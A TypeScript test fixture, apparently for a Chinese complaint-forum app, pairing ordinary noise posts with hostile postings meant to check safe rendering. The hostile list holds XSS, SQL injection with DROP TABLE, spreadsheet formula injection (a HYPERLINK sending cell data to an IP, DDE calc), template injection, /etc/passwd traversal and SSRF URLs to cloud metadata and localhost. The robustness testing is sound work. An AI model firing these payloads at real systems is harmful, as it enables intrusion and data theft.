/** What a forum holds besides complaints: chatter that concerns nobody's duty, and postings meant to break whoever reads them. */
import type { Chance } from '../chance.ts'

export interface Words {
  title: string
  text: string
}

const words = (title: string, text: string): Words => ({ title, text })

/** Noise: advertisements, searches, other places of the same names. */
export const chatter: readonly Words[] = [
  words('洪泽湖大闸蟹包邮，公四两母三两礼盒装', '自家围网养殖，现捕现发，礼盒包邮，老客户有优惠，要的站内联系。'),
  words('急招缝纫工、质检员，包吃住', '园区服装厂招聘，月薪五千到八千，长白班，熟手优先，介绍人有奖励。'),
  words('润园小区三室两厅出租', '精装修拎包入住，家电齐全，学区房源，中介勿扰，价格面议。'),
  words('周末去三河古镇玩，求攻略', '听说合肥肥西的三河古镇不错，自驾两个半小时，有去过的说说停车方便吗。'),
  words('双沟大曲哪个年份好喝', '朋友从泗洪双沟带回来几箱酒，不懂酒的来问问。'),
  words('如东岔河那边的亲戚说下冰雹了', '南通如东岔河镇昨晚下冰雹，我们这边倒是没事。'),
  words('徐州铜山黄集的羊肉汤真不错', '出差路过铜山黄集，喝了一碗羊肉汤，比咱们这便宜。'),
  words('寻狗启事：走失一只泰迪', '昨天傍晚在浔河风光带走失，棕色，带红项圈，有看到的请联系，重谢。'),
  words('有没有一起打羽毛球的', '体育馆周三晚上缺人，水平一般，主要出出汗。'),
  words('今天的晚霞太美了，大堤上随手拍', '手机拍的没有修图，洪泽湖的秋天真好看。'),
  words('二手电动车转让', '骑了一年半，电池刚换，带充电器，可以试车。'),
  words('明天天气预报有大风降温', '大家注意添衣服，晒的稻子收一收。'),
  words('求推荐靠谱的驾校教练', '女生，周末有时间，希望教练脾气好一点。'),
  words('老子山温泉门票团购', '国庆后价格下来了，有想一起拼团的吗，旅游攻略也可以交流。'),
]

const longText = (chance: Chance): string => '这是一段很长的文字，反映的问题没有人管，'.repeat(900 + chance.below(900))

/** Postings that must come out as the text they are, and run, fetch or stall nothing. */
const hostile: readonly ((chance: Chance) => Words)[] = [
  () => words('<script>alert(document.cookie)</script>路灯坏了', '正文里也有<img src=x onerror=alert(1)>和<svg/onload=alert(2)>，请维修路灯。'),
  () => words('\'); DROP TABLE postings;-- 停水了', '小区停水 \' OR 1=1 -- "; DELETE FROM issues WHERE "a"="a'),
  () => words('=HYPERLINK("http://192.0.2.1/?"&A1,"点我")', '=cmd|\' /C calc\'!A0'),
  () => words('+86停车收费太贵', '@SUM(1+1)*cmd|\' /C calc\'!A0\n-2+3+cmd'),
  () => words('\u202e。了坏灯路\u202c 请看', '正常文字\u202e字文的转反\u202c后面\u2066隔离\u2069的文字\u200b\u200b\ufeff结束。'),
  () => words('半个表情\ud83d测试', '标题和正文里都有落单的代理项\udc00，还有完整的😀。'),
  (chance) => words('很长的投诉', longText(chance)),
  () => words('😡😡😡气死了🔥🔥', '👨‍👩‍👧‍👦一家人🏠都睡不着🌙，👷‍♂️还在打桩💢，求管管🙏🙏🏻'),
  () => words('{{7*7}} ${7*7} <%= 7*7 %>', '{{constructor.constructor("return process")()}} #{7*7} %00 %s%s%n ../../../../etc/passwd'),
  () => words('a'.repeat(260), `${'a'.repeat(6_000)}!`),
  () => words('看这个链接 http://169.254.169.254/latest/meta-data/', 'javascript:alert(1) file:///etc/passwd http://[::1]:6379/ http://127.0.0.1:5432/ http://0x7f000001/'),
  () => words('Z̸̛̗a̷l̵g̶o̴ 文字', 'ก็็็็็็็็็็็็็็็็็็็็ 叠加符号 ﷽﷽﷽ 测试'),
  () => words('&lt;b&gt;实体&amp;amp;#128512;&#x1F600;', '&nbsp;&lt;script&gt;alert(3)&lt;/script&gt;]]><!-- <![CDATA[ --></textarea></title></script>'),
  () => words('\t\n 空白\u3000\u3000标题 \r\n', '\u0001\u0008控制字符\u0000\u001b[31m红色\u001b[0m\u2028行分隔\u2029段分隔'),
  () => words('"引号","逗号",\n换行;分号', '"a","b"\r\n"c;d"\t|管道|,,,""""'),
]

export const hostileCount = hostile.length

export const hostileWords = (index: number, chance: Chance): Words => hostile[index % hostile.length]!(chance)
